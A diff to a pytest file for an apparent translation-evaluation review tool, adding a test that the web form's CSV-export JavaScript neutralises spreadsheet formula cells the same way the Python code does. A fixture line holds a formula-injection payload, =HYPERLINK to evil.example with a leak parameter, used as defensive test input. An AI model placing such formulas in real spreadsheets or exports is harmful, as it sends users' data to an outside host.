@@ -7,14 +7,17 @@ from __future__ import annotations
 
 import copy
 import csv
+import io
 import json
 import shutil
+import subprocess
+from pathlib import Path
 
 import pytest
 from test_review import build_card, candidate, mteval, rate, sheet  # noqa: F401  (fixtures by name)
 
 from pytest_mteval.cards import runcard
-from pytest_mteval.review import chain, form, sample
+from pytest_mteval.review import cells, chain, form, sample
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
 #: entry index -> a prediction a spreadsheet or the page template could take for code
@@ -95,7 +98,8 @@ def test_a_hand_made_small_sample_record_is_refused(own_card, tmp_path):
     card = runcard.load(own_card)
     drawn = sample.draw(card, 1, sample.DEFAULT_SEED)
     record = own_card.parent / f"review-{drawn.sample_id}.sample.json"
-    record.write_text(json.dumps({**drawn.record(), "card_hash": card["run_card_hash"]}))
+    kept = {"kind": "mteval review sample", **drawn.record(), "card_hash": card["run_card_hash"]}
+    record.write_text(json.dumps(kept), encoding="utf-8")
     files = forged_small_ratings(tmp_path, own_card)
     out = tmp_path / "validated.json"
     line = one_line_refusal(mteval("review", "ingest", own_card, *files, "--out", out))
@@ -166,7 +170,10 @@ def test_a_validated_card_on_a_small_sample_does_not_verify(own_card, tmp_path):
             "quality_tier": parent["scores"]["quality_tier"],
         },
         "sample": drawn.record(),
-        "reviewers": [{"id": "r-1", "dates": [], "rated": 1}, {"id": "r-2", "dates": [], "rated": 1}],
+        "reviewers": [
+            {"id": "r-1", "dates": [], "rated": 1},
+            {"id": "r-2", "dates": [], "rated": 1},
+        ],
         "ingested": "2026-12-02",
         "rated_entries": 1,
         "ratings": {"reject": 0, "gist": 0, "acceptable": 0, "excellent": 1},
@@ -237,9 +244,7 @@ def hostile_card(tmp_path_factory):
     return build_card(tmp_path_factory.mktemp("hostile"), HOSTILE)
 
 
-def test_review_sheet_neutralises_formula_cells_and_ingest_reads_them_back(
-    hostile_card, tmp_path
-):
+def test_review_sheet_neutralises_formula_cells_and_ingest_reads_them_back(hostile_card, tmp_path):
     sheets = tmp_path / "sheets"
     done = mteval("review", "sample", hostile_card, "-n", 40, "--out", sheets)
     assert done.returncode == 0, done.stdout
@@ -322,3 +327,24 @@ def test_bad_thresholds_end_in_one_line(candidate, sheet, tmp_path, option, valu
     line = one_line_refusal(done)
     assert option in line
     assert not out.exists()
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="needs node to run the form's script")
+def test_the_forms_export_cells_match_the_sheets(tmp_path):
+    """The JavaScript the page includes for "Export CSV", run by node on the hostile cells:
+    the same quoting as the CSV template, and ingest's reading restores every text."""
+    script = (Path(form.__file__).parent / "templates" / "csv_cells.js").read_text("utf-8")
+    texts = [*HOSTILE.values(), "'", "\n=1", "plain, with a comma", 'a "quote"', "-", ""]
+    program = tmp_path / "cells.js"
+    program.write_text(
+        script + f"\nprocess.stdout.write(JSON.stringify({json.dumps(texts)}.map(cell)));\n",
+        encoding="utf-8",
+    )
+    done = subprocess.run(["node", str(program)], capture_output=True, text=True, check=True)
+    exported = json.loads(done.stdout)
+    [row] = csv.reader(io.StringIO(",".join(exported), newline=""))
+    assert row == [cells.neutralise(t) for t in texts]
+    assert [cells.restore(c) for c in row] == texts
+    assert row[0] == "'" + HYPERLINK
+    page = form.html_form(sample.Sample("a" * 12 + "-n1-s1", "a" * 64, 1, 1, "d", {}, ()), "t")
+    assert script.strip() in page
